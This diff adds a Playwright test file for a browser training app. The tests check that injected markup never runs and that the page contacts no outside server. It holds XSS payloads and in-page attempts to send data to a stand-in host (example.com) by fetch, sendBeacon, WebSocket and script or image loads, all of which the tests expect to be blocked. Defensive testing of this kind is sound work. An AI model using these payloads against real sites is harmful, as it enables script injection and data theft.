@@ -1,0 +1,195 @@
+/** The page's policy: strangers' text stays text, markup that got in would do nothing, and no server is asked but the page's own. */
+import type { Page } from '@playwright/test';
+import { starterFiles, zipped } from './checkpoint.ts';
+import { expect, test } from './fixtures.ts';
+import { choose, chooseSettings, download, drop, notice, reachPhase, reachStep, snapshotOf } from './page.ts';
+
+const SMALL = { problemsPerStep: 2, rolloutsPerProblem: 2, evalSamples: 2, numSteps: 1, maxTokens: 8 };
+
+/** Ways in which markup runs a program, each telling its number. */
+const injections: readonly ((n: number) => string)[] = [
+  (n) => `<img src=x onerror=injected(${n})>`,
+  (n) => `<script>injected(${n})</script>`,
+  (n) => `<svg onload=injected(${n})></svg>`,
+  (n) => `"><iframe srcdoc="<script>parent.injected(${n})</script>">`,
+  (n) => `<details open ontoggle=injected(${n})>`,
+  (n) => `javascript:injected(${n})`,
+  (n) => `<svg><animate onbegin=injected(${n}) attributeName=x dur=1s>`,
+];
+
+const text = (value: unknown): Uint8Array => new TextEncoder().encode(JSON.stringify(value));
+
+/** Numbers of the injections that ran. */
+async function watchInjections(page: Page): Promise<number[]> {
+  const ran: number[] = [];
+  await page.exposeFunction('injected', (n: number) => void ran.push(n));
+  return ran;
+}
+
+test('20 injections stay text', async ({ page, openPage }, testInfo) => {
+  const ran = await watchInjections(page);
+  let made = 0;
+  const next = (): string => {
+    const kind = injections[made % injections.length];
+    return kind?.(made++) ?? '';
+  };
+
+  // The address: settings, names of settings, the fragment.
+  await openPage({ ...SMALL, task: next(), model: next(), lossType: next(), [next()]: 1 });
+  await expect(notice(page, 'settings that can’t be used')).toContainText('injected(0)');
+  await page.goto(`./?backend=wasm&task=reverse_digits#${encodeURIComponent(next())}`);
+  await expect(page.getByTestId('train-button')).toBeEnabled({ timeout: 120_000 });
+
+  // Names of files, of columns and of settings, and what is said of them.
+  const bad = zipped(`${next()}.zip`.replaceAll('/', '∕'), new Map([['config.json', text({})]]));
+  await choose(page, bad);
+  await expect(notice(page, 'was not loaded').first()).toContainText('injected(5)');
+  await chooseSettings(
+    page,
+    `${next()}.json`.replaceAll('/', '∕'),
+    JSON.stringify({ [next()]: next(), learning_rate: next() }),
+  );
+  await expect(page.getByText('injected(6)').first()).toBeVisible();
+  await choose(page, { name: 'picture.svg.zip', bytes: new TextEncoder().encode(next()) });
+  await expect(notice(page, 'picture.svg.zip').first()).toBeVisible();
+
+  // Rows and the name of the user's task.
+  await page.getByRole('region', { name: 'Your own task' }).getByText('Your own task').click();
+  await page.getByTestId('own-new').click();
+  const rows = Array.from({ length: 20 }, (_, i) => ({
+    [`question`]: injections[i % 7]?.(made) ?? '',
+    answer: `${i}`,
+  }));
+  made++;
+  await page.getByTestId('own-file').setInputFiles({
+    name: `${next().replaceAll('/', '∕')}.jsonl`,
+    mimeType: 'text/plain',
+    buffer: Buffer.from(rows.map((row) => JSON.stringify({ ...row, note: '<b>' })).join('\n')),
+  });
+  await expect(page.getByTestId('own-read')).toContainText('20 rows');
+  await expect(page.getByText('injected(11)').first()).toBeVisible();
+  await page.getByTestId('own-name').fill(next());
+  await page.getByLabel('Completion', { exact: true }).fill(next());
+  await page.getByRole('button', { name: 'Cancel' }).last().click();
+
+  // Names that no server is asked for.
+  await page.getByTestId('model-picker-button').click();
+  for (const name of [next(), next(), next()]) {
+    await page.getByTestId('model-name').fill(name);
+    await page.getByTestId('model-look-up').click();
+    await expect(page.getByTestId('model-failed')).toContainText('names no model');
+  }
+  await page.keyboard.press('Escape');
+
+  // What a model writes: its word for "[ANSWER] " is markup.
+  const files = starterFiles();
+  const tokenizer = new TextDecoder().decode(files.get('tokenizer.json'));
+  const word = `${next()}${next()}`;
+  files.set(
+    'tokenizer.json',
+    new TextEncoder().encode(tokenizer.replace('"[ANSWER] "', JSON.stringify(word))),
+  );
+  await drop(page, zipped('writer.zip', files), testInfo);
+  await expect.poll(async () => (await snapshotOf(page)).modelName).toContain('writer');
+  await page.getByTestId('train-button').click();
+  await reachStep(page, 1);
+  await expect(page.getByText(word).first()).toBeVisible();
+
+  expect(made).toBeGreaterThanOrEqual(20);
+  expect(ran).toEqual([]);
+});
+
+test.describe('markup that got into the page', () => {
+  test.use({ expectedErrors: /Content Security Policy|violates|TrustedHTML|404/, expectedViolations: true });
+
+  test('runs no program and sends nothing away', async ({ page, context, openPage }) => {
+    const ran = await watchInjections(page);
+    const asked: string[] = [];
+    await context.route('https://example.com/**', (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'text/javascript', body: 'injected(104)' });
+    });
+    await openPage(SMALL);
+    const refused = await page.evaluate(
+      async (markup) => {
+        for (const each of markup) {
+          const host = document.createElement('div');
+          // Past what the page itself refuses to write as HTML.
+          const parsed = new DOMParser().parseFromString('<p></p>', 'text/html');
+          host.append(...parsed.body.childNodes);
+          document.body.append(host);
+          try {
+            host.innerHTML = each;
+          } catch {
+            // Trusted Types are enforced.
+          }
+          const script = document.createElement('script');
+          script.text = 'injected(100)';
+          host.append(script);
+          const image = document.createElement('img');
+          image.setAttribute('onerror', 'injected(101)');
+          image.src = 'data:,';
+          host.append(image);
+        }
+        const link = document.createElement('a');
+        link.href = 'javascript:injected(102)';
+        document.body.append(link);
+        link.click();
+        const elsewhere = document.createElement('script');
+        elsewhere.src = 'https://example.com/injected.js';
+        document.head.append(elsewhere);
+        const picture = new Image();
+        picture.src = 'https://example.com/leak.png';
+        const tries: Record<string, () => unknown> = {
+          fetch: () => fetch('https://example.com/leak'),
+          beacon: () => {
+            if (navigator.sendBeacon('https://example.com/leak', 'leak')) return;
+            throw new Error('refused');
+          },
+          socket: () =>
+            new Promise((resolve, reject) => {
+              const socket = new WebSocket('wss://example.com/');
+              socket.onopen = resolve;
+              socket.onerror = reject;
+            }),
+          // Behind a wait: what a driver of browsers asks itself is excepted.
+          eval: () => (Reflect.get(window, 'eval') as (program: string) => unknown)('injected(103)'),
+        };
+        const outcome: string[] = [];
+        for (const [name, attempt] of Object.entries(tries))
+          try {
+            await attempt();
+          } catch {
+            outcome.push(name);
+          }
+        return outcome;
+      },
+      injections.map((kind, n) => kind(n)),
+    );
+    expect(refused).toEqual(expect.arrayContaining(['eval', 'fetch', 'socket']));
+    expect(ran).toEqual([]);
+    expect(asked).toEqual([]);
+  });
+});
+
+test('a session asks no server but the page’s own', async ({ page, context, openPage }) => {
+  const asked: string[] = [];
+  context.on('request', (request) => asked.push(request.url()));
+  await openPage({ ...SMALL, task: 'reverse_digits', numSteps: 2 });
+  const { origin } = new URL(page.url());
+  await page.getByTestId('train-button').click();
+  await reachPhase(page, 'finished');
+  const saved = await download(page);
+  await page.getByTestId('reset-button').click();
+  await reachPhase(page, 'idle');
+  await choose(page, saved);
+  await reachStep(page, 2);
+  await page.getByTestId('benchmark-link').click();
+  await page.keyboard.press('Escape');
+  await page.getByTestId('model-picker-button').click();
+  await expect(page.getByTestId('model-picker')).toBeVisible();
+  const elsewhere = asked.filter((url) => /^(http|ws)/.test(url) && new URL(url).origin !== origin);
+  console.log(`${asked.length} requests, ${elsewhere.length} of them to other servers`);
+  expect(asked.length).toBeGreaterThan(10);
+  expect(elsewhere).toEqual([]);
+});
